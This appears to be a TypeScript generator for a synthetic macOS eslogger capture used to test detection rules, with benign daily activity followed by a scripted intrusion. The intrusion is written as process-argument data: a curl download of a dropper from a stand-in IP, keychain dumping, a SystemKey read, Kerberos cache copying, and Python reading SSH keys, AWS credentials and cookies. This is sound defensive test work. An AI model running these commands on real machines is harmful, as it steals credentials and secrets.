/**
 * The sample case's eslogger capture: a fourth Mac (mbp-carol) seen only through Apple's
 * `eslogger exec fork exit open close create rename unlink write mmap`, as a responder would
 * collect it. A day of ordinary work (shells, git, brew, apps reading their own files, plenty of
 * opens and memory mappings Elastic Defend would not report), then an intrusion that every seed
 * rule sees once mapped: an unsigned dropper reading the keychain, `security dump-keychain`,
 * a SystemKey read, Kerberos cache dumping and Python reading credential files.
 * Deterministic: the same bytes every run.
 */
import { EsloggerWriter, type EsImage, type EsProc } from './eslogger-messages.ts';
import { Dice, seededRandom } from './prng.ts';

const APPLE = (executable: string, id = executable.slice(executable.lastIndexOf('/') + 1)): EsImage => ({ executable, signingId: `com.apple.${id}`, platform: true });
const IMAGES = {
  launchd: APPLE('/sbin/launchd', 'xpc.launchd'),
  terminal: APPLE('/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', 'Terminal'),
  zsh: APPLE('/bin/zsh'),
  git: APPLE('/usr/bin/git'),
  ls: APPLE('/bin/ls'),
  cat: APPLE('/bin/cat'),
  security: APPLE('/usr/bin/security'),
  kcc: APPLE('/usr/bin/kcc'),
  curl: APPLE('/usr/bin/curl'),
  sudo: APPLE('/usr/bin/sudo'),
  brew: { executable: '/opt/homebrew/Library/Homebrew/vendor/portable-ruby/current/bin/ruby', signingId: 'ruby-55554944', adhoc: true },
  python: { executable: '/opt/homebrew/Cellar/python@3.12/3.12.3/Frameworks/Python.framework/Versions/3.12/bin/python3.12', signingId: 'python3.12-55554944', adhoc: true },
  slack: { executable: '/Applications/Slack.app/Contents/MacOS/Slack', signingId: 'com.tinyspeck.slackmacgap', teamId: 'BQR82RBBHL' },
  dropper: { executable: '/Users/Shared/.sysupdate/sysupdate' },
} satisfies Record<string, EsImage>;

const CAROL = 503;
export const ESLOGGER_HOST = 'mbp-carol';

class Capture {
  readonly w = new EsloggerWriter(8);
  private pid = 4000;
  private at: number;

  constructor(
    start: number,
    private readonly dice: Dice,
  ) {
    this.at = start;
  }

  time(stepMs = this.dice.int(50, 4000)): string {
    this.at += stepMs;
    return `${new Date(this.at).toISOString().slice(0, -1)}${String(this.dice.int(0, 999_999)).padStart(6, '0')}Z`;
  }

  spawn(parent: EsProc, image: EsImage, args: readonly string[], options: { exit?: boolean; cwd?: string } = {}): EsProc {
    const child = this.w.fork(parent, this.pid++, this.time());
    const process = this.w.exec(child, image, args, this.time(300), { cwd: options.cwd ?? '/Users/carol' });
    this.libraries(process);
    if (options.exit !== false) this.w.exit(process, this.time());
    return process;
  }

  /** What every process start looks like to ES: dyld mapping and opening system libraries. */
  libraries(process: EsProc): void {
    for (const library of ['/usr/lib/dyld', '/usr/lib/libSystem.B.dylib']) {
      this.w.open(process, library, this.time(2));
      this.w.mmap(process, library, this.time(2));
      this.w.close(process, library, false, this.time(2));
    }
  }
}

export function esloggerCase(seed = 20240507): string {
  const dice = new Dice(seededRandom(seed));
  const c = new Capture(Date.UTC(2024, 4, 7, 8, 30), dice);
  const { w } = c;
  const launchd = w.running(1, 0, IMAGES.launchd, 0, '2024-05-07T06:00:00Z');
  const terminal = w.running(812, 1, IMAGES.terminal, CAROL, '2024-05-07T08:29:00Z', launchd);
  const slack = w.running(640, 1, IMAGES.slack, CAROL, '2024-05-07T08:10:00Z', launchd);
  const shell = c.spawn(terminal, IMAGES.zsh, ['-zsh'], { exit: false });
  for (let i = 0; i < 60; i++) {
    const roll = dice.float();
    if (roll < 0.4) {
      const [image, args] = dice.pick([[IMAGES.git, ['git', 'status']], [IMAGES.git, ['git', 'pull', '--rebase']], [IMAGES.ls, ['ls', '-la']]] as const);
      c.spawn(shell, image, args);
    }
    else if (roll < 0.55) {
      const brew = c.spawn(shell, IMAGES.brew, ['ruby', '/opt/homebrew/Library/Homebrew/brew.rb', 'update'], { exit: false });
      w.create(brew, `/Users/carol/Library/Caches/Homebrew/api/formula.${dice.hex(6)}.json`, c.time());
      w.exit(brew, c.time());
    } else {
      // Slack reads and writes its own cookie store and cache: trusted, never an alert.
      w.open(slack, '/Users/carol/Library/Application Support/Slack/Cookies', c.time());
      w.writeTo(slack, '/Users/carol/Library/Application Support/Slack/Local Storage/leveldb/000003.log', c.time(5));
      w.close(slack, '/Users/carol/Library/Application Support/Slack/Local Storage/leveldb/000003.log', true, c.time(5));
    }
  }
  // The intrusion: a fake updater fetched and run from the shell.
  const curl = c.spawn(shell, IMAGES.curl, ['curl', '-so', '/Users/Shared/.sysupdate/sysupdate', 'https://203.0.113.45/u'], { exit: false });
  w.create(curl, '/Users/Shared/.sysupdate/sysupdate', c.time());
  w.exit(curl, c.time());
  const dropper = c.spawn(shell, IMAGES.dropper, ['/Users/Shared/.sysupdate/sysupdate', '--daemon'], { exit: false });
  c.spawn(dropper, IMAGES.cat, ['cat', '/Users/carol/Library/Keychains/login.keychain-db']);
  c.spawn(dropper, IMAGES.security, ['security', 'dump-keychain', '-d', '/Users/carol/Library/Keychains/login.keychain-db']);
  const sudo = c.spawn(dropper, IMAGES.sudo, ['sudo', 'cat', '/private/var/db/SystemKey'], { exit: false });
  c.spawn(sudo, IMAGES.cat, ['cat', '/private/var/db/SystemKey']);
  w.exit(sudo, c.time());
  c.spawn(dropper, IMAGES.kcc, ['kcc', 'copy_cred_cache', '/tmp/krb5cc_503']);
  const python = c.spawn(dropper, IMAGES.python, ['python3', '-c', 'import glob,shutil;...'], { exit: false });
  for (const path of ['/Users/carol/.ssh/id_ed25519', '/Users/carol/.aws/credentials', '/Users/carol/Library/Cookies/Cookies.binarycookies']) w.open(python, path, c.time());
  w.create(python, '/private/tmp/.c.zip', c.time());
  w.rename(python, '/private/tmp/.c.zip', '/Users/Shared/.sysupdate/c.zip', c.time());
  w.exit(python, c.time());
  w.unlink(dropper, '/Users/Shared/.sysupdate/c.zip', c.time(60_000));
  return w.lines();
}
